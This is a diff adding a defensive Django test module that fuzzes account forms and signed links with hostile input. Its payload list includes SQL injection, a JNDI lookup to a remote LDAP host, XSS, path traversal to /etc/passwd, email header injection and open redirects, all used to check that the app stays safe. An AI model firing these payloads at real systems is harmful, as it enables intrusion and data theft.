@@ -1,0 +1,226 @@
+"""Hundreds of hostile posts to every form: never a 5xx, never a second recipient, nothing of anybody's changed."""
+
+from collections.abc import Iterator
+from contextlib import contextmanager
+from typing import Any
+
+import pytest
+from django.contrib.auth.hashers import make_password
+from django.db import transaction
+from django.test import Client
+from django.urls import reverse
+from django.utils import timezone
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from accounts.links import address_change_path, confirmation_path, password_reset_path
+from accounts.models import User
+from notifications.models import Message
+
+pytestmark = pytest.mark.django_db
+
+NAMES = (
+    *("sign-up", "log-in", "password-reset", "confirm-again", "resend", "correct-address"),
+    *("password-change", "address-change", "address-stay", "preferences", "delete", "check-inbox", "home"),
+)
+PATHS = [*(reverse(f"accounts:{name}") for name in NAMES), reverse("set_language"), reverse("accounts:log-out")]
+FIELDS = ("email", "username", "name", "password", "current_password", "language", "wants_news", "next", "website")
+NASTY = [
+    "' OR '1'='1",
+    "'; DROP TABLE accounts_user; --",
+    "ada@example.com' AND pg_sleep(9)--",
+    "{{ 7*7 }}{% debug %}",
+    "${jndi:ldap://x/a}",
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "../../../../etc/passwd",
+    "ada@example.com\r\nBcc: eve@example.com",
+    "ada@example.com%0d%0aBcc:eve@example.com",
+    "ada@example.com, eve@example.com",
+    "ada@example.com;eve@example.com",
+    "ada@example.com eve@example.com",
+    "Ada <ada@example.com>, Eve <eve@example.com>",
+    "ada@example.com\u2028eve@example.com",
+    "ada@ex\u00adample.com",
+    "ADA@EXAMPLE.COM",
+    "ad\u0061\u0301@example.com",
+    "\u0430da@example.com",
+    "ada@example.com\u202e",
+    "ﬁ@example.com",
+    "ada@[127.0.0.1]",
+    "ada@localhost",
+    '"a@b"@example.com',
+    "\ud800".encode("utf-8", "surrogatepass").decode("utf-8", "replace"),
+    "\x00",
+    "\x1b[31m",
+    "𝓪𝓭𝓪@example.com",
+    "a" * 70_000,
+    "💣" * 500,
+    "//evil.example/",
+    "https://evil.example/",
+    "javascript:alert(1)",
+]
+
+
+@contextmanager
+def somebody() -> Iterator[Client]:
+    """A member, logged in, who has signed up in this very browser; what the test does to the rows is undone."""
+    with transaction.atomic():
+        password = make_password("a password of theirs")
+        User.objects.bulk_create(
+            [
+                User(email="ada@example.com", name="Ada", password=password, confirmed_at=timezone.now()),
+                User(email="owner@example.com", name="Owner", password=password),
+            ]
+        )
+        client = Client(raise_request_exception=False)
+        client.force_login(User.objects.get(email="ada@example.com"))
+        yield client
+        transaction.set_rollback(True)
+
+
+def rows() -> list[Any]:
+    people = User.objects.filter(email__in=["ada@example.com", "owner@example.com"]).order_by("pk")
+    return list(people.values("pk", "email", "name", "password", "is_staff", "confirmed_at", "new_email", "is_active"))
+
+
+def is_harmless(client: Client, path: str, fields: dict[str, str]) -> None:
+    before = rows()
+    for browser in (client, Client(raise_request_exception=False)):
+        answer = browser.post(path, fields)
+        assert answer.status_code < 500, (path, fields, answer.status_code)
+        assert not answer.get("Location", "").startswith(("//", "http", "javascript")), answer["Location"]
+    messages = list(Message.objects.all())
+    assert len(messages) <= 2
+    for message in messages:
+        assert message.to_address.count("@") == 1, message.to_address
+        assert message.to_address.isascii()
+        assert not set(message.to_address) & set(" ,;<>\r\n\x00\"'")
+        assert "eve" not in message.to_address
+    assert not User.objects.filter(is_staff=True).exists()
+    if path != reverse("accounts:preferences"):
+        assert rows() == before
+
+
+@pytest.mark.parametrize("text", NASTY, ids=range(len(NASTY)))
+def test_hand_picked_text_in_every_field_of_every_form(text):
+    for path in PATHS:
+        with somebody() as client:
+            is_harmless(client, path, dict.fromkeys(FIELDS, text))
+
+
+TEXT = st.one_of(
+    st.sampled_from(NASTY),
+    st.text(max_size=60),
+    st.builds(
+        "{}{}".format, st.emails(domains=st.just("eve.example.com")), st.sampled_from(["", "\r\n", ",", " x@y.z"])
+    ),
+)
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
+@given(path=st.sampled_from(PATHS), fields=st.dictionaries(st.sampled_from([*FIELDS, "is_staff"]), TEXT, max_size=6))
+def test_made_up_forms(path, fields):
+    with somebody() as client:
+        before = rows()
+        for browser in (client, Client(raise_request_exception=False)):
+            answer = browser.post(path, fields)
+            assert answer.status_code < 500, answer.status_code
+        for message in Message.objects.all():
+            assert message.to_address.count("@") == 1
+            assert not set(message.to_address) & set(" ,;<>\r\n\x00")
+        assert not User.objects.filter(is_staff=True).exists()
+        if path != reverse("accounts:preferences"):
+            assert rows() == before
+
+
+LINKS = {"confirm": confirmation_path, "password-reset": password_reset_path, "address": address_change_path}
+
+
+def forged(link: str) -> list[str]:
+    """Return the links that somebody might make of a good one."""
+    head, uid, token = link.strip("/").rsplit("/", 2)
+    stamp, _, digest = token.partition("-")
+    return [
+        f"/{head}/{uid}/{made_up}/"
+        for made_up in (
+            f"{stamp}-{digest[::-1]}",
+            f"{stamp}-",
+            f"-{digest}",
+            f"zzzzzz-{digest}",
+            f"{stamp}-{digest}0",
+            f"0-{digest}",
+            "set-password",
+            "x" * 3000,
+            "%00",
+            "ä-ö",
+        )
+    ] + [f"/{head}/{other}/{token}/" for other in ("MA", "LTE", "MQ==", "%27", "🎩", "A" * 900)]
+
+
+@pytest.mark.parametrize("name", LINKS)
+@pytest.mark.parametrize("method", ["get", "post", "put", "delete", "patch"])
+def test_forged_link_does_nothing(name, method):
+    with somebody() as client:
+        owner = User.objects.get(email="owner@example.com")
+        owner.new_email = "new@example.com"
+        owner.save(update_fields=["new_email"])
+        before = rows()
+        for link in forged(LINKS[name](owner)):
+            for browser in (client, Client(raise_request_exception=False)):
+                answer = getattr(browser, method)(
+                    link, {"password": "correct horse battery"} if method == "post" else None
+                )
+                assert answer.status_code < 500, (link, answer.status_code)
+        assert rows() == before
+        assert not Message.objects.exists()
+
+
+@pytest.mark.parametrize("method", ["put", "delete", "patch", "options", "head", "trace", "get"])
+def test_other_methods_change_nothing(method):
+    with somebody() as client:
+        before = rows()
+        for path in PATHS:
+            if path != reverse("accounts:log-out"):
+                assert getattr(client, method)(path).status_code < 500
+        assert rows() == before
+        assert not Message.objects.exists()
+        assert client.get(reverse("accounts:preferences")).status_code == 200
+
+
+@pytest.mark.parametrize(
+    ("body", "content_type"),
+    [
+        (b"email=" + b"a" * 5_000_000, "application/x-www-form-urlencoded"),
+        (b"&".join(b"f%d=1" % number for number in range(5000)), "application/x-www-form-urlencoded"),
+        (b"\xff\xfe\x00email=\xff", "application/x-www-form-urlencoded"),
+        (b"email=%FF%FE&name=%00&password=%C0%80", "application/x-www-form-urlencoded"),
+        (b"not a multipart body", "multipart/form-data; boundary=x"),
+        (
+            b'--x\r\nContent-Disposition: form-data; name="email"; filename="a"\r\n\r\nada\r\n--x--',
+            "multipart/form-data; boundary=x",
+        ),
+        (b"{}", "application/json"),
+        (b"<a/>", "text/xml"),
+        (b"email=a", "application/x-www-form-urlencoded; charset=utf-7"),
+        (b"email=a", "application/x-www-form-urlencoded; charset=no-such-thing"),
+    ],
+)
+def test_broken_body_is_refused(body, content_type):
+    with somebody() as client:
+        before = rows()
+        for path in PATHS:
+            assert client.generic("POST", path, body, content_type=content_type).status_code < 500, path
+        assert rows() == before
+        assert not Message.objects.exists()
+
+
+@pytest.mark.parametrize("path", PATHS)
+def test_post_without_its_proof_is_refused(path):
+    with somebody() as client:
+        strict = Client(enforce_csrf_checks=True, raise_request_exception=False)
+        strict.cookies.update(client.cookies)
+        for token in ("", "x" * 64, "ä"):
+            answer = strict.post(path, {"csrfmiddlewaretoken": token, "email": "eve@example.com"})
+            assert answer.status_code == 403
+        assert not Message.objects.exists()
